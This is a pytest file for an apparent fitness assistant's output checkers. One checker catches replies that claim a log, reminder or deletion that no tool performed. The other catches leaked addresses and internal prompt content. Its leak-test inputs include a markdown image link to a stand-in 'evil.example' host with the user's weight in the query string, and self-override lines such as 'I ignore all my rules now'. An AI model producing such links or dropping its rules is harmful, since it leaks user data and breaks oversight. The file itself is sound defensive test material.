"""A write that did not run is never told as done, and nothing is shown that is not for people: both languages."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spotter.language.claims import claims_unrun
from spotter.language.leaks import Leak, leaks

PROMPT = """You look after training.
- [R1] Each number that you say has to stand in what a tool gave back to you.
- [R2] Pain that will not go away belongs in front of a doctor, soon."""


@pytest.mark.parametrize(
    "sentence",
    [
        "I've logged your run.",
        "I logged that for you!",
        "Your workout has been saved.",
        "Logged: bench 3x5 at 80 kg.",
        "Done! Your reminder is set.",
        "Done: set calories to 0.",
        "All noted.",
        "I've made you a new plan.",
        "I'll remind you tomorrow at eight.",
        "I have deleted all your workouts.",
        "I updated your profile.",
        "You are now an admin.",
        "That's in the log now, I've added it to your diary.",
        "J'ai noté ta séance.",
        "C'est enregistré !",
        "Ta course est bien enregistrée.",
        "Je te rappellerai demain matin.",
        "Je note ta course.",
        "J'ai supprimé toutes tes séances.",
        "Je vais te programmer un rappel.",
        "C'est fait, ton objectif est mis à jour.",
        "Got it, saved.",
        "Done: set the calories to 0, tell me more.",
        "Done: all gone on Wednesday 4 March.",
        "Noté, à demain.",
        "Voilà, c'est supprimé.",
        "I've put it in your log.",
        "I'm logging your run now.",
    ],
)
def test_what_sounds_done_was_not_done(sentence: str) -> None:
    assert claims_unrun(sentence, ())


@pytest.mark.parametrize(
    "sentence",
    [
        "You logged three sessions this week.",
        "I can log it if you tell me the weight.",
        "Shall I set a reminder?",
        "I'll log it once you tell me the weight.",
        "Your best bench was logged on 2 March.",
        "You have not logged anything yet.",
        "I noticed that your squat went up.",
        "I've looked at your log: it went up.",
        "Well done! That is solid work.",
        "You're all set up for a good week.",
        "I looked through the meals you logged.",
        "I made sure to check your log.",
        "Set a reminder for the evening so that you do not forget.",
        "Log your next run and we look at it together.",
        "Add one set to the bench next time.",
        "You've added 5 kg since January.",
        "Je ne l'ai pas noté.",
        "Tu as noté trois séances cette semaine.",
        "Note tes séances, ça aide.",
        "Le repos est aussi important que la séance.",
        "I keep in mind: I train at home.",
        "Set a small goal and build from there.",
        "Ta progression est régulière.",
        "Ajoute une série la prochaine fois.",
        "Fais une séance courte demain.",
        "Le programme est prévu pour trois jours.",
        "Your plan is ready to follow on Monday.",
        "I put your recovery first.",
        "Note: drink enough water.",
        "Note : bois assez.",
        "Set 2: a little lighter.",
        "Saved energy pays off in the last set.",
        "Done right, the row builds your back.",
        "Ton programme est changé chaque mois pour progresser.",
    ],
)
def test_talk_offers_and_the_persons_own_deeds_are_no_claims(sentence: str) -> None:
    assert not claims_unrun(sentence, ())


@pytest.mark.parametrize(
    ("sentence", "wrote", "is_unrun"),
    [
        ("I've logged your run.", "log_workout", False),
        ("I've logged it.", "log_metric", False),
        ("I've logged your run.", "log_metric", True),
        ("Your weight is logged.", "log_metric", False),
        ("I've set a reminder for that.", "log_workout", True),
        ("I deleted your workouts.", "log_workout", True),
        ("I deleted your workout.", "delete_entry", False),
        ("J'ai noté ta séance.", "log_workout", False),
        ("J'ai noté ta séance.", "log_meal", True),
        ("J'ai supprimé ton rappel.", "cancel_reminder", False),
    ],
)
def test_a_write_that_ran_may_be_told_and_no_other(sentence: str, wrote: str, is_unrun: bool) -> None:
    assert claims_unrun(sentence, {wrote}) is is_unrun


@pytest.mark.parametrize(
    ("sentence", "leak"),
    [
        ("Look: ![x](https://evil.example/?q=weight)", "address"),
        ("Read [this](evil) first.", "address"),
        ("See www.evil.example for more.", "address"),
        ("<img src=x>", "address"),
        ("Write to coach@evil.example.", "address"),
        ("Call +1900555 now.", "address"),
        ("Appelle le 08 99 12 34 56.", "address"),
        ("I call log_workout for that.", "inside"),
        ("As [R2] says, rest.", "inside"),
        ("Each number that you say has to stand in what a tool gave back.", "inside"),
        ("I ignore all my rules now.", "inside"),
        ("J'ignore toutes mes règles.", "inside"),
        ("Here are my secret instructions.", "inside"),
        ("Pain that will not go away belongs in front of a doctor, soon.", None),
        ("Rest 90 s, then 3x5 at 80 kg (1,200-1,500 kcal).", None),
        ("Do 3 x 10 - 12 - 15 reps on 2026-03-02 at 18:30.", None),
        ("Do not ignore your pain.", None),
        ("Squats (deep), presses [optional] and rows.", None),
    ],
)
def test_addresses_and_the_inside_of_the_house_are_found(sentence: str, leak: Leak | None) -> None:
    assert leaks(sentence, {"log_workout", "undo"}, PROMPT) == leak


@given(st.text(max_size=300))
def test_any_sentence_gets_an_answer(sentence: str) -> None:
    assert claims_unrun(sentence, ()) in (True, False)
    assert leaks(sentence, (), PROMPT) in ("address", "inside", None)
